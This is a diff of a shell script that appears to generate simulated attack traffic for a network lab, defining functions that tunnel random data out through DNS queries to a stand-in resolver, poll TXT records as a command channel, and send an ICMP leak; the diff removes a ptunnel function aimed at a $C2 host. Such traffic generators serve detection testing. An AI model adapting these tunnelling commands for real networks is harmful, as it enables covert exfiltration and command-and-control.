@@ -19,12 +19,6 @@ dns2tcp_tunnel() {
 tool dig_leak dns-tunnel desk $RESOLVER; dig_leak() { on 60 bash -c 'head -c 6000 /dev/urandom | xxd -p -c 25 | while read -r l; do dig +tries=1 +time=1 @198.51.100.53 "${l:0:50}.x.leak.example" A; done'; }
 tool dig_leak_slow dns-tunnel desk $RESOLVER; dig_leak_slow() { on 130 bash -c 'head -c 3000 /dev/urandom | base32 -w 48 | tr A-Z= a-z0 | while read -r l; do dig +tries=1 +time=1 @198.51.100.53 "$l.q.leak.example" TXT; sleep 1; done'; }
 tool txt_shell dns-tunnel desk $RESOLVER; txt_shell() { on 90 bash -c 'for i in $(seq 60); do dig +tries=1 +time=1 @198.51.100.53 "$(head -c 12 /dev/urandom | xxd -p).cmd.leak.example" TXT; sleep 0.$((RANDOM % 9)); done'; }
-tool ptunnel_echo dns-tunnel desk $C2
-ptunnel_echo() {
-    ns_start master ptunnel
-    sleep 1; ns_start desk ptunnel -p $C2 -lp 8000 -da $C2 -dp 80
-    sleep 1; on 25 bash -c 'for i in 1 2 3 4 5 6; do curl -s -m 8 -o /dev/null http://127.0.0.1:8000/; sleep 1; done'
-}
 tool icmp_leak dns-tunnel desk $C2; icmp_leak() { on 30 python3 "$LAB_HOME/tools/icmp_leak.py" $C2 120 0.1; }
 
 # beacon SECONDS JITTER-PERCENT SPAN URL: a report at that pace.
